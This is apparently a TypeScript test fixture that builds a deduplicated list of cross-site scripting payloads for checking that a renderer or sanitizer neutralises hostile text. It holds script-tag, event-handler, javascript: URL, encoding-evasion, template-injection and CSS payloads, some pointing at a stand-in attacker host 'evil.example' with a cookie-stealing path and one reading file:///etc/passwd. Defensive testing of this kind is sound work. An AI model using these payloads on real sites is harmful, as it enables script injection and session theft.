/** What a payload calls when a page runs it; a test exposes it, and nobody may call it. */
export const alarm = 'batonAlarm';
/** Where a payload sends what it finds; no page may ask it for anything. */
export const elsewhere = 'https://evil.example';

const call = `${alarm}()`;

/** Elements that run a handler by themselves. */
const handlers = [
  ...['img src=x onerror', 'svg onload', 'body onload', 'details open ontoggle', 'audio src onerror'],
  ...['video><source onerror', 'input autofocus onfocus', 'select autofocus onfocus', 'iframe onload'],
  ...[
    'marquee onstart',
    'style onload',
    'object data=x onerror',
    'svg><animate onbegin',
    'div onpointerover',
  ],
  ...['a autofocus tabindex=1 onfocus', 'textarea autofocus onfocus', 'keygen autofocus onfocus'],
  ...['form><button onclick', 'x contenteditable autofocus onfocus', 'link rel=stylesheet href=x onerror'],
];

const scripts = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script src="${elsewhere}/x.js"></script>`,
  `<script type=module>import '${elsewhere}/x.js'</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `</script><script>${call}</script>`,
  `--><script>${call}</script><!--`,
  `]]><script>${call}</script>`,
  `<noscript><p title="</noscript><script>${call}</script>">`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `<template><script>${call}</script></template>`,
  `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><foreignObject><script>${call}</script></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${call}'/>#x"/>`,
];

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `\u0001javascript:${call}`,
  ` javascript:${call}`,
  `javascript&colon;${call}`,
  `&#106;avascript:${call}`,
  `javascript://%0a${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString('base64')}`,
  `vbscript:${call}`,
  `blob:${elsewhere}/x`,
  `${elsewhere}/steal?cookie=`,
  `//evil.example/steal`,
  `https:evil.example`,
  `https://user:pass@evil.example/`,
  `http://127.0.0.1@evil.example/`,
  `view-source:${elsewhere}`,
  `file:///etc/passwd`,
];

/** Ways in which a page may take an address for a link or a picture. */
const links = [
  (address: string) => `[press here](${address})`,
  (address: string) => `![](${address})`,
  (address: string) => `<a href="${address}">press here</a>`,
  (address: string) => `<${address}>`,
];

const templates = [
  ...[`{{constructor.constructor('${call}')()}}`, `\${${call}}`, `<%= ${call} %>`, `#{${call}}`],
  ...[`{{=<% %>=}}<%${call}%>`, `[[${call}]]`, `{%raw%}<script>${call}</script>{%endraw%}`],
  ...[
    `{"__proto__":{"onerror":"${call}"}}`,
    `__proto__`,
    `constructor`,
    `{"dangerouslySetInnerHTML":{"__html":"x"}}`,
  ],
];

const styles = [
  `<style>@import '${elsewhere}/x.css'</style>`,
  `<style>*{background:url(${elsewhere}/x)}</style>`,
  `<p style="background:url(${elsewhere}/x)">`,
  `<link rel=stylesheet href=${elsewhere}/x.css>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<base href=${elsewhere}/>`,
  `<form action=${elsewhere}><button autofocus>x</button></form>`,
  `<img srcset="${elsewhere}/x 1x">`,
  `<object data="${elsewhere}/x">`,
  `<embed src="${elsewhere}/x">`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<iframe src="javascript:parent.${call}">`,
];

const quotes = [
  `" onfocus=${call} autofocus x="`,
  `' onfocus=${call} autofocus x='`,
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  `\`><img src=x onerror=${call}>`,
  `\\"};${call};//`,
  `\u2028${call}\u2029`,
  `\u202e<script>${call}</script>`,
  `＜script＞${call}＜/script＞`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `<img src=x onerror="&#98;atonAlarm()">`,
  `<img src=x onerror=eval(atob('${Buffer.from(call).toString('base64')}'))>`,
  `<<img src=x onerror=${call}>`,
  `<img\u000csrc=x\u000conerror=${call}>`,
  `<img/src=x/onerror=${call}>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<?xml-stylesheet href="javascript:${call}"?>`,
  `**bold <img src=x onerror=${call}>**`,
  `\`code </code><img src=x onerror=${call}>\``,
  `- list <svg onload=${call}>`,
  `1. <details open ontoggle=${call}>`,
  `> quoted <img src=x onerror=${call}>`,
  `# heading <img src=x onerror=${call}>`,
  `| a | <img src=x onerror=${call}> |`,
];

/** Texts that try to run a script or to reach another origin where a page shows them; each is there once. */
export const hostileTexts: readonly string[] = [
  ...new Set([
    ...scripts,
    ...handlers.map((handler) => `<${handler}=${call}>`),
    ...addresses.flatMap((address) => links.map((link) => link(address))),
    ...templates,
    ...styles,
    ...quotes,
  ]),
];
